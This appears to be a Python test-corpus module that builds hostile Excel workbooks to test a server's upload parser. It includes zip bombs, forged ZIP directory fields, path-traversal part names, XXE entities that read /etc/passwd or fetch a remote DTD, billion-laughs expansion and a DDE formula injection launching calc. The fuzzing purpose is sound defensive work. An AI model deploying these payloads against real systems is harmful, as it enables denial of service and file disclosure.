"""Workbooks: archives that lie or swell, XML that grows, sheets that state nonsense."""

from __future__ import annotations

import io
import zipfile
import zlib
from functools import partial
from struct import pack, pack_into, unpack_from

from packages.server.tests.uploads.corpus.case import Case, Cases
from packages.server.tests.uploads.files import attacks, books

_MB = 1024 * 1024
_DIRECTORY, _LOCAL, _END = b"PK\x01\x02", b"PK\x03\x04", b"PK\x05\x06"
_PLACES = {
    "workbook": "xl/workbook.xml", "sheet": "xl/worksheets/sheet1.xml",
    "types": "[Content_Types].xml", "links": "xl/_rels/workbook.xml.rels",
    "strings": "xl/sharedStrings.xml", "styles": "xl/styles.xml",
}  # fmt: skip
_SHEET_START = (
    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
)
HEADER = (
    "symbol", "isin", "trade_date", "exchange", "segment", "series", "trade_type", "auction",
    "quantity", "price", "trade_id", "order_id", "order_execution_time",
)  # fmt: skip


def workbooks() -> Cases:
    """All of them."""
    yield from _bombs()
    yield from _lying_directories()
    yield from _xml()
    yield from _strings()
    yield from _sheets()
    yield from _cut()


def _bombs() -> Cases:
    for parts in (4, 8, 40, 150):
        make = partial(swollen, parts)
        yield Case("zip bomb", f"{parts} parts of 60 MB", make, is_bomb=True)
    for place in ("sheet", "strings", "styles", "workbook"):
        make = partial(swollen, 4, _PLACES[place])
        yield Case("zip bomb", f"the {place} of 240 MB", make, is_bomb=True)
    for depth in (1, 3, 6):
        yield Case("zip bomb", f"nested {depth} deep", partial(nested, depth))
    for count in (10, 100, 199):
        make = partial(overlapping, count)
        yield Case("zip bomb", f"{count} entries of one content", make, is_bomb=True)
    for count in (201, 1000, 30_000, 65_535):
        make = partial(many_entries, count)
        yield Case("many parts", f"{count}", make, is_bomb=True)


def _lying_directories() -> Cases:
    for size in (0, 1, 1000, 2**31, 2**32 - 1):
        yield Case("lying directory", f"a part of {size} bytes", partial(lying_size, 24, size))
    for size in (0, 5, 2**31, 2**32 - 1):
        make = partial(lying_size, 20, size)
        yield Case("lying directory", f"{size} bytes packed", make, is_harmless=True)
    for where in (1, 2**31, 2**32 - 1):
        yield Case("lying directory", f"a part at {where}", partial(lying_size, 42, where))
    for count in (0, 1, 199, 65_535):
        yield Case("lying directory", f"{count} parts stated", partial(lying_end, 10, "<H", count))
    for size in (0, 1, 2**32 - 1):
        make = partial(lying_end, 12, "<L", size)
        yield Case("lying directory", f"of {size} bytes", make, is_harmless=True)
    yield Case("lying directory", "it is elsewhere", partial(lying_end, 16, "<L", 2**31))
    yield Case("lying directory", "a wrong sum", partial(lying_size, 16, 12345))
    yield Case("lying directory", "unknown method", partial(lying_size, 10, 99, "<H"))
    yield Case("lying directory", "encrypted parts", partial(lying_size, 8, 1, "<H"))
    yield Case("lying directory", "two ends", lambda: good() + _END + bytes(18), is_harmless=True)
    comment = lambda: good() + bytes(65_000)  # noqa: E731
    yield Case("lying directory", "64 kB after its end", comment, is_harmless=True)
    for name in ("../../etc/passwd", "/etc/passwd", "..\\boot.ini", "a" * 60_000, "\u202efdp"):
        make = partial(with_part, name)
        yield Case("names of parts", f"{name[:20]!r}", make, is_harmless=True)


def _xml() -> Cases:
    for place, path in _PLACES.items():
        for name, entity in _ENTITIES.items():
            yield Case("XML", f"{name} in the {place}", partial(with_entity, path, entity))
    for depth in (1000, 100_000):
        for place in ("sheet", "strings"):
            make = partial(repeated, place, "", "<a>", depth)
            yield Case("XML", f"{depth} deep in the {place}", make)
    huge = partial(repeated, "sheet", '<worksheet a="', "x", 5 * _MB, '"/>')
    yield Case("XML", "an attribute of 5 MB", huge)
    many = "<worksheet " + " ".join(f'a{n}="1"' for n in range(100_000)) + "/>"
    yield Case("XML", "100,000 attributes", partial(replaced, "sheet", many))
    spaces = "<worksheet " + " ".join(f'xmlns:a{n}="b"' for n in range(50_000)) + "/>"
    yield Case("XML", "50,000 name spaces", partial(replaced, "sheet", spaces))
    comment = partial(repeated, "sheet", "<worksheet><!--", "-x", _MB, "--></worksheet>")
    yield Case("XML", "a comment of 2 MB", comment)
    for text in ("", "<", "<worksheet", "<worksheet>", "\x00" * 100, "<?xml version='1.0'"):
        yield Case("XML", f"{text[:12]!r} for a sheet", partial(replaced, "sheet", text))


_ENTITIES = {
    "laughs": "".join(
        [
            '<!ENTITY e0 "lol">',
            *(f'<!ENTITY e{n} "' + f"&e{n - 1};" * 10 + '">' for n in range(1, 12)),
            '<!ENTITY e "&e11;">',
        ]
    ),
    "quadratic": f'<!ENTITY e "{"x" * 50_000}">',
    "a file": '<!ENTITY e SYSTEM "file:///etc/passwd">',
    "an address": '<!ENTITY e SYSTEM "http://192.0.2.1/x">',
    "an outside DTD": '<!ENTITY % p SYSTEM "http://192.0.2.1/x.dtd"> %p;',
}


def _strings() -> Cases:
    head = '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    for count in (2**31, 2**63, -1):
        text = f'{head}count="{count}" uniqueCount="{count}"><si><t>a</t></si></sst>'
        yield Case("shared strings", f"{count} stated", partial(replaced, "strings", text))
    for name, (start, unit, times, end) in {
        "400,000": (">", "<si><t>a</t></si>", 400_000, "</sst>"),
        "one of 8 MB": ("><si><t>", "x", 8 * _MB, "</t></si></sst>"),
        "300,000 runs": ("><si>", "<r><t>x</t></r>", 300_000, "</si></sst>"),
    }.items():
        make = partial(repeated, "strings", head + start, unit, times, end)
        yield Case("shared strings", name, make)
    for place in (5, -1, 2**40):
        row = f'<row r="1"><c r="A1" t="s"><v>{place}</v></c></row>'
        yield Case("shared strings", f"number {place}", partial(attacks._workbook, rows=row))


def _sheets() -> Cases:
    for where in ("XFD1048576", "A1048576", "XFD1", "ZZZZZZ1", "A99999999999", "A0", "1", ""):
        row = f'<row r="1"><c r="A1"><v>1</v></c><c r="{where}"><v>1</v></c></row>'
        yield Case("cells", f"one at {where!r}", partial(attacks._workbook, rows=row))
    for value in ("1e999", "-1e999", "nan", "1e12", "9" * 400, "0x10"):
        make = partial(stating, value)
        yield Case("cells", f"a price of {value[:12]}", make)
    for kind in ("e", "b", "d", "str", "inlineStr", "zzz"):
        row = f'<row r="1"><c r="A1" t="{kind}"><v>#REF!</v></c></row>'
        yield Case("cells", f"of the type {kind}", partial(attacks._workbook, rows=row))
    formula = '<row r="1"><c r="A1"><f>cmd|\' /C calc\'!A0</f><v>1</v></c></row>'
    yield Case("cells", "a formula", partial(attacks._workbook, rows=formula))
    for unit in ('<row><c r="A1"><v>1</v></c></row>', '<row r="1"/>'):
        make = partial(repeated, "sheet", _SHEET_START, unit, 500_000, "</sheetData></worksheet>")
        yield Case("cells", f"500,000 times {unit[:20]}", make)
    sheets = "".join(f'<sheet name="s{n}" sheetId="{n}" r:id="r1"/>' for n in range(5000))
    book = attacks._BOOK.format(doctype="").replace(
        '<sheet name="Sheet1" sheetId="1" r:id="r1"/>', sheets
    )
    yield Case("cells", "5,000 sheets", partial(replaced, "workbook", book))
    yield Case("cells", "a sheet elsewhere", attacks.outside_sheet)
    yield Case("cells", "macros and programs", attacks.macros, is_harmless=True)


def _cut() -> Cases:
    for percent in (1, 10, 25, 50, 75, 90, 99):
        yield Case("cut", f"a workbook at {percent} %", partial(cut, percent))
        yield Case("cut", f"a sheet at {percent} %", partial(cut_sheet, percent))
    for last in (1, 4, 21, 22):
        yield Case("cut", f"a workbook, {last} bytes before its end", lambda n=last: good()[:-n])
    yield Case("cut", "the packed sheet", cut_stream)


def good() -> bytes:
    """A tradebook of ten trades."""
    return books.kite_workbook(attacks.few_trades())


def swollen(parts: int, path: str = "") -> bytes:
    """Parts of 60 MB of zeros each; or one part at `path` of as many times 60 MB."""
    if path:
        return _raw({path: (_zeros(60 * parts), 60 * parts * _MB)})
    return _raw({f"xl/media/{n}.bin": (_zeros(60), 60 * _MB) for n in range(parts)})


def _zeros(megabytes: int) -> bytes:
    """So many of zeros, packed, without making them: a packed block of zeros repeats itself."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = packer.compress(bytes(_MB)) + packer.flush(zlib.Z_FULL_FLUSH)
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = packer.compress(bytes(_MB)) + packer.flush(zlib.Z_FULL_FLUSH)
    return head + block * (megabytes - 1) + zlib.compressobj(9, zlib.DEFLATED, -15).flush()


def _raw(parts: dict[str, tuple[bytes, int]]) -> bytes:
    """An archive of contents that are packed already, beside the parts of a workbook."""
    out, directory = io.BytesIO(attacks._workbook()), []
    content = out.getvalue()
    place = content.rfind(_END)
    start = unpack_from("<L", content, place + 16)[0]
    count = unpack_from("<H", content, place + 10)[0]
    body, kept = content[:start], content[start:place]
    for name, (packed, size) in parts.items():
        path = name.encode()
        facts = (20, 0, 8, 0, 0, 0, len(packed), size, len(path), 0)
        directory.append(
            _DIRECTORY + pack("<H", 20) + pack("<HHHHHLLLHH", *facts)
            + pack("<HHHLL", 0, 0, 0, 0, len(body)) + path
        )  # fmt: skip
        body += _LOCAL + pack("<HHHHHLLLHH", *facts) + path + packed
    whole = kept + b"".join(directory)
    number = count + len(parts)
    end = _END + pack("<HHHHLLH", 0, 0, number, number, len(whole), len(body), 0)
    return body + whole + end


def nested(depth: int) -> bytes:
    """An archive in an archive …, the innermost a bomb."""
    content = swollen(4)
    for _ in range(depth):
        content = attacks._zipped({"xl/workbook.xml": b"<workbook/>", "inner.xlsx": content})
    return content


def overlapping(count: int) -> bytes:
    """Many entries of the directory for one content of 10 MB."""
    content = _raw({"xl/media/0.bin": (_zeros(10), 10 * _MB)})
    end = content.rfind(_END)
    start = unpack_from("<L", content, end + 16)[0]
    last = content.rfind(_DIRECTORY, 0, end)
    entry = content[last:end]
    entries = content[start:end] + entry * count
    number = unpack_from("<H", content, end + 10)[0] + count
    return (
        content[:start] + entries
        + _END + pack("<HHHHLLH", 0, 0, number, number, len(entries), start, 0)
    )  # fmt: skip


def many_entries(count: int) -> bytes:
    """Empty parts, as the directory lists them; their contents are not there."""
    entry = _DIRECTORY + bytes(41) + b"\x01"  # of the name, one byte is stated
    entries = (entry + b"a") * count
    head = _LOCAL + bytes(26)
    end = _END + pack("<HHHHLLH", 0, 0, count, count, len(entries), len(head), 0)
    return head + entries + end


def lying_size(field: int, value: int, form: str = "<L") -> bytes:
    """A good workbook whose directory states another value in a field of every part."""
    content = bytearray(good())
    place = content.find(_DIRECTORY)
    while place >= 0:
        pack_into(form, content, place + field, value)
        place = content.find(_DIRECTORY, place + 4)
    return bytes(content)


def lying_end(field: int, form: str, value: int) -> bytes:
    """A good workbook whose last record states another value."""
    content = bytearray(good())
    pack_into(form, content, content.rfind(_END) + field, value)
    return bytes(content)


def with_part(name: str) -> bytes:
    """A good workbook with one more part of that name."""
    book = io.BytesIO(good())
    with zipfile.ZipFile(book, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, b"x")
    return book.getvalue()


def with_entity(path: str, entities: str) -> bytes:
    """A workbook of which one part has entities, and a cell with one of them."""
    uses = "&e;" * (2000 if "quadratic" in entities or len(entities) > 20_000 else 1)
    rows = f'<row r="1"><c r="A1" t="inlineStr"><is><t>{uses}</t></is></c></row>'
    doctype = f"<!DOCTYPE x [{entities}]>"
    if path == _PLACES["sheet"]:
        return attacks._workbook(rows=rows, doctype=doctype)
    if path == _PLACES["workbook"]:
        return attacks._workbook(doctype=doctype)
    text = f'<?xml version="1.0"?>{doctype}<x><si><t>{uses}</t></si></x>'
    return attacks._workbook(more={path: text.encode()})


def replaced(place: str, text: str) -> bytes:
    """A workbook with this text for one of its parts."""
    return attacks._workbook(more={_PLACES[place]: text.encode()})


def repeated(place: str, start: str, unit: str, times: int, end: str = "") -> bytes:
    """The same with a text that repeats itself."""
    return replaced(place, start + unit * times + end)


def stating(price: str) -> bytes:
    """A tradebook with one trade of this price, written as a number."""
    row = ("INFY", "INE009A01021", "2024-04-01", "NSE", "EQ", "EQ", "buy", "false", "1", price)
    return attacks._workbook(rows=_cells(1, HEADER) + _cells(2, (*row, "1", "2", "2024-04-01")))


def _cells(number: int, texts: tuple[str, ...]) -> str:
    cells = (
        f'<c r="{chr(65 + at)}{number}"><v>{text}</v></c>'
        if number > 1 and at in (8, 9)
        else f'<c r="{chr(65 + at)}{number}" t="inlineStr"><is><t>{text}</t></is></c>'
        for at, text in enumerate(texts)
    )
    return f'<row r="{number}">{"".join(cells)}</row>'


def cut(percent: int) -> bytes:
    """The first part of a good workbook."""
    content = good()
    return content[: len(content) * percent // 100]


def cut_sheet(percent: int) -> bytes:
    """A workbook whose sheet ends in the middle."""
    with zipfile.ZipFile(io.BytesIO(good())) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    name = _PLACES["sheet"]
    parts[name] = parts[name][: len(parts[name]) * percent // 100]
    return attacks._zipped(parts)


def cut_stream() -> bytes:
    """A workbook whose packed sheet lacks its second half, though sizes say otherwise."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = packer.compress(b"<worksheet>" * 1000) + packer.flush()
    return _raw({_PLACES["sheet"]: (packed[: len(packed) // 2], 11_000)})
